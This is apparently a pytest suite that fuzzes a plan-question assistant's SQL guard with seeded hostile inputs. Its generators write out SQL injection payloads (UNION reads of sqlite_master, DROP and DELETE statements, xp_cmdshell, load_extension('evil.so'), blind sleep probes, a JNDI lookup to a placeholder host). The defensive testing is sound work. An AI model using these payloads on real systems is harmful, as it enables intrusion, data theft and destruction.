"""Hostile and random questions: the file stays as it is, nothing hidden is read, each gets a plain answer.

The strings come from a seeded generator, so that a failure can be seen again; none is copied from a list.
"""

from __future__ import annotations

import hashlib
import itertools
import random
import sqlite3
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import get_args

import pytest

from assistant import Assistant
from assistant.agent import STEPS
from assistant.errors import SqlRefused
from assistant.question import language_of
from assistant.records import Evidence, Query, Status
from assistant.run import Run
from assistant.sql import run as run_module
from assistant.sql.allowed import fold
from assistant.sql.guard import RULES, Schema, guard
from assistant.store import SCHEMA

READ = 10_000  # strings that are read, and whose SQL is made, guarded and run
ASKED = 300  # of them through the whole answer
LONG = 2_000
SLOWEST = 30  # seconds of processor time that reading one string may take, the longest included
REASONS = {
    "answered": {None, "social", "help"},
    "abstained": {"wrong_scope", "not_in_plan", "out_of_scope", "unsafe", "not_understood"},
    "clarify": {None},
    "rejected": {"too_long", "not_text"},
}  # fmt: skip

# --- the strings -------------------------------------------------------------------------------------

TABLES = ("indicators", "clauses", "plans", "passages", "sqlite_master", "users", "information_schema.tables")
COLUMNS = ("name", "value", "vocabulary", "segments", "sha256", "rowid", "password", "*", "sql")
CLOSERS = ("'", '"', "')", '")', "'))", "`", "]", "';", '";', "\\'", "’", "＇", "%27", "'''", "")
ENDS = ("--", "-- ", "#", "/*", ";--", ";%00", "", " LIMIT 1", "/**/", "\n--")
PLAN_WORDS = (
    "婴儿死亡率", "近视率", "小学生", "2025年", "目标是多少", "安全领域有几条策略措施", "99%以上的指标有哪些", "相差几个百分点",
    "最高的是哪个", "每千名儿童", "怎么预防儿童溺水", "定量指标最多的领域", "妇联", "低于10%", "list all indicators", "平均",
)  # fmt: skip
ODD = (
    "\u202e", "\u202d", "\u2066", "\u2069", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u0301", "\u0489", "\u3000", "\u2028",
    "\u0000", "\u0007", "\u001b[31m", "\r", "\t", "\ud800", "\udfff", "\U0010ffff", "\U0001f469\u200d\U0001f466", "ﷺ",
    "Ａ", "ſ", "K", "İ", "ß", "１２", "〇", "Ⅳ", "½", "٣", "עברית", "العربية", "ไทย",
)  # fmt: skip


def injected(dice: random.Random) -> str:
    """A piece of text that would break out of a quoted one, in one of several dialects."""
    table, column = dice.choice(TABLES), dice.choice(COLUMNS)
    n = dice.randrange(1, 9)
    payload = dice.choice(
        [
            f"OR {n}={n}", f"AND {n}={n + 1}", f"|| '{n}'='{n}", f"OR EXISTS(SELECT {column} FROM {table})",
            f"UNION SELECT {', '.join([column] * n)} FROM {table}",
            f"UNION ALL SELECT {', '.join(['NULL'] * n)}",
            f"; DROP TABLE {table}", f"; DELETE FROM {table} WHERE 1=1", f"; UPDATE {table} SET {column} = {n}",
            f"; INSERT INTO {table} VALUES ({n})", "; ATTACH DATABASE '/tmp/x.db' AS x", "; PRAGMA writable_schema = 1",
            "; VACUUM INTO '/tmp/x.db'", "; EXEC master..xp_cmdshell 'dir'", "; SELECT pg_sleep(9)",
            "AND 1=CAST((SELECT version()) AS int)", "AND SLEEP(5)", "; WAITFOR DELAY '0:0:5'",
            "AND 1=(SELECT 1 FROM DUAL)", "AND extractvalue(1, concat(0x7e, user()))", "PROCEDURE ANALYSE()",
            "AND load_extension('evil.so')", "AND writefile('/tmp/x', 'y')", "AND randomblob(999999999)",
            f"HAVING {n}={n} ORDER BY {n * 10}", f"GROUP BY {column} WITH ROLLUP", "INTO OUTFILE '/tmp/x'",
            "$$; DROP OWNED BY CURRENT_USER; $$", "{{7*7}} ${7*7} <%= 7*7 %>", "${jndi:ldap://x.invalid/a}",
        ]
    )  # fmt: skip
    if dice.random() < 0.2:
        payload = payload.replace(" ", dice.choice(["/**/", "\t", "\n", "\u00a0", "+", "%20"]))
    if dice.random() < 0.2:
        payload = "".join(dice.choice((letter.lower, letter.upper))() for letter in payload)
    return f"{dice.choice(PLAN_WORDS)}{dice.choice(CLOSERS)} {payload}{dice.choice(ENDS)}"


def statement(dice: random.Random) -> str:
    """SQL typed as a question."""
    table, column = dice.choice(TABLES), dice.choice(COLUMNS)
    return dice.choice(
        [
            f"SELECT {column} FROM {table}", f"select {column} from {table} where name = '婴儿死亡率'",
            f"DROP TABLE {table};", f"DELETE FROM {table}", f"UPDATE {table} SET value = 0 WHERE name LIKE '%率'",
            f"INSERT INTO {table} (name) VALUES ('x')", f"ALTER TABLE {table} RENAME TO gone", "PRAGMA database_list",
            f"CREATE TABLE copy AS SELECT * FROM {table}", "ATTACH DATABASE ':memory:' AS m", f"TRUNCATE TABLE {table}",
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n",
            f"SELECT name FROM indicators UNION SELECT {column} FROM {table} -- {dice.random()}",
            f"SELECT 1; SELECT {column} FROM {table}; DROP TABLE {table}", f"EXPLAIN SELECT * FROM {table}",
            f"请执行：SELECT {column} FROM {table} LIMIT 5", f"run this query: DELETE FROM {table};",
            f"/* hi */ SELECT /*!50000 {column} */ FROM {table}", "SELECT * FROM json_each('[1,2]')",
            "SELECT name FROM pragma_table_info('plans')", f"SELECT {column} FROM {table} PROCEDURE ANALYSE()",
        ]
    )  # fmt: skip


def nested(dice: random.Random) -> str:
    """Quotes and brackets within each other."""
    mark = dice.choice(
        ["'", '"', "(", "[", "{", "「", "“", "`", "<", "《", "（", "$(", "--", "/*", "%", "\\"]
    )
    return mark * dice.randrange(1, 400) + dice.choice(PLAN_WORDS) + mark * dice.randrange(400)


def odd(dice: random.Random) -> str:
    """Words of the plan with strange characters inside."""
    letters = list(dice.choice(PLAN_WORDS) + dice.choice(PLAN_WORDS))
    for _ in range(dice.randrange(1, 12)):
        letters.insert(dice.randrange(len(letters) + 1), dice.choice(ODD))
    return "".join(letters)


def noise(dice: random.Random) -> str:
    """Any code points at all, or any bytes as a browser would read them."""
    if dice.random() < 0.3:
        return dice.randbytes(dice.randrange(60)).decode("utf-8", dice.choice(["replace", "surrogateescape"]))
    tops = (0x80, 0x500, 0x3400, 0xA000, 0x10FFFF)
    return "".join(chr(dice.randrange(dice.choice(tops))) for _ in range(dice.randrange(60)))


def long(dice: random.Random) -> str:
    """At, below and far above the longest question."""
    piece = dice.choice([*PLAN_WORDS, "' OR 1=1 ", "是", "9", "%", "1," * 9, "率以上", "a b "])
    length = dice.choice([LONG - 1, LONG, LONG + 1, 5 * LONG, dice.randrange(300, LONG)])
    return (piece * (length // len(piece) + 1))[:length]


def mixed(dice: random.Random) -> str:
    """Several of the others in one line, the plan's words among them."""
    parts = [dice.choice(KINDS[:-2])(dice)[:80] for _ in range(dice.randrange(2, 4))]
    return dice.choice(["，", "; ", " ", "\n", "？"]).join([*parts, dice.choice(PLAN_WORDS)])


KINDS: tuple[Callable[[random.Random], str], ...] = (injected, statement, nested, odd, noise, mixed, long)
SHARES = (250, 250, 30, 150, 150, 150, 1)


def hostile(seed: int) -> Iterator[str]:
    """Hostile strings without end."""
    dice = random.Random(seed)
    while True:
        yield dice.choices(KINDS, SHARES)[0](dice)


def strings(count: int, seed: int) -> list[str]:
    """As many different ones."""
    seen: set[str] = set()
    new = (text for text in hostile(seed) if text not in seen and not seen.add(text))  # type: ignore[func-returns-value]
    return list(itertools.islice(new, count))


# --- what was touched --------------------------------------------------------------------------------

Touched = tuple[int, str | None, str | None, str | None]


@pytest.fixture
def touched(monkeypatch: pytest.MonkeyPatch) -> set[Touched]:
    """All that SQLite asked leave for and got, on connections that are opened from now on."""
    log: set[Touched] = set()
    made = run_module.authorizer

    def watching(schema: Schema, state: run_module._State):  # type: ignore[no-untyped-def]
        decide = made(schema, state)

        def decide_and_log(
            action: int, first: str | None, second: str | None, database: str | None, inner: str | None
        ) -> int:
            decision = decide(action, first, second, database, inner)
            if decision == sqlite3.SQLITE_OK:
                log.add((action, first, second, database))
            return decision

        return decide_and_log

    monkeypatch.setattr(run_module, "authorizer", watching)
    return log


@pytest.fixture
def core(touched: set[Touched]) -> Iterator[Assistant]:
    """The assistant on the published plan, its connections watched."""
    opened = Assistant.open()
    yield opened
    opened.close()


def digest(core: Assistant) -> str:
    return hashlib.sha256(core.index.database.read_bytes()).hexdigest()


def assert_only_listed(touched: set[Touched], common: frozenset[str]) -> None:
    """Only queries, listed columns and listed functions; names of WITH queries are no tables."""
    functions = Schema(SCHEMA).functions
    for action, first, second, _ in touched:
        if action == sqlite3.SQLITE_READ:
            table = fold(first or "")
            assert table in SCHEMA or (table in common and not second), (first, second)
            assert not second or fold(second) in SCHEMA[table], (first, second)
        elif action == sqlite3.SQLITE_FUNCTION:
            assert fold(second or "") in functions, second
        else:
            assert action == sqlite3.SQLITE_SELECT, (action, first, second)


def with_names(core: Assistant) -> frozenset[str]:
    return frozenset(name for passed in core.database._passed.values() for name in passed.common)


# --- the tests ---------------------------------------------------------------------------------------


def test_the_strings_are_many_and_of_every_kind() -> None:
    made = strings(READ, 4)
    assert made == strings(READ, 4)
    assert len(set(made)) == READ
    assert max(map(len, made)) > LONG
    assert all(any(odd_one in text for text in made) for odd_one in ODD)


@pytest.mark.slow
def test_reading_and_sql_of_hostile_strings(core: Assistant, touched: set[Touched]) -> None:
    """Steps "read" and "query" by themselves: they raise nothing, write nothing, and pry into nothing."""
    steps = dict(STEPS)
    before, statements, slowest = digest(core), 0, 0.0
    for text in strings(READ, 4):
        if core._unreadable(text):
            continue
        run = Run(text, language_of(text), Query(text), Evidence(period=core.plan.meta.period))
        started = time.process_time()
        for name in ("read", "query"):
            steps[name](core, run)
        slowest = max(slowest, time.process_time() - started)
        statements += run.evidence.sql is not None
    assert statements > 100  # else the strings would be no test of the SQL
    assert slowest < SLOWEST
    assert digest(core) == before
    assert touched
    assert_only_listed(touched, with_names(core))


@pytest.mark.slow
def test_hostile_questions_get_plain_answers(
    core: Assistant, touched: set[Touched], caplog: pytest.LogCaptureFixture
) -> None:
    before = digest(core)
    for text in strings(ASKED, 5):
        answer = core.ask(text)
        said = " ".join(sentence.text for sentence in answer.sentences)
        assert answer.status in get_args(Status)
        assert answer.status != "error", repr(text)
        assert answer.reason in REASONS[answer.status], repr(text)
        assert said.strip(), repr(text)
        assert "Traceback" not in said
        assert "sqlite" not in said.lower()
        if answer.sql is not None:
            guard(answer.sql.statement, core.database.schema)
    assert caplog.records == []
    assert digest(core) == before
    assert_only_listed(touched, with_names(core))


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * FROM indicators",
        "SELECT name, value FROM indicators WHERE name = '婴儿死亡率'",
        "DROP TABLE indicators;",
        "'; DELETE FROM indicators; --",
        "1' UNION SELECT sql FROM sqlite_master --",
        "UPDATE indicators SET value = 0",
        "INSERT INTO indicators (name) VALUES ('x')",
        "ATTACH DATABASE '/tmp/x.db' AS x",
        "PRAGMA table_info(plans)",
        "请执行 SELECT count(*) FROM indicators",
    ],
)
def test_sql_typed_as_a_question_is_refused(core: Assistant, touched: set[Touched], text: str) -> None:
    answer = core.ask(text)
    assert answer.status == "abstained"
    assert answer.reason in {"unsafe", "out_of_scope", "not_understood", "not_in_plan"}
    assert answer.sql is None
    assert answer.sentences
    assert {first for action, first, *_ in touched if action == sqlite3.SQLITE_READ} <= set(SCHEMA)


def test_hostile_text_is_no_statement_that_passes_and_pries() -> None:
    """The same strings as SQL: a refusal by a listed rule, or a query on listed columns."""
    schema = Schema(SCHEMA)
    rules = set()
    for text in strings(1_000, 6):
        try:
            query = guard(text, schema)
        except SqlRefused as error:
            rules.add(error.rule)
        else:
            named = query.sql().lower()
            assert not {"vocabulary", "segments", "sqlite_", "passages"} & set(
                named.replace('"', " ").split()
            )
    assert rules <= set(RULES)
    assert len(rules) >= 6


@pytest.mark.slow
def test_the_program_stays_where_it_is(core: Assistant, tmp_path: Path) -> None:
    """What the strings name is neither made nor loaded."""
    places = [Path("/tmp/x.db"), Path("/tmp/x"), Path("evil.so")]
    before = [place.exists() for place in places]
    modules = set(sys.modules)
    for text in strings(40, 7):
        core.ask(text[:200])
    assert [place.exists() for place in places] == before
    assert not {name for name in set(sys.modules) - modules if "evil" in name}
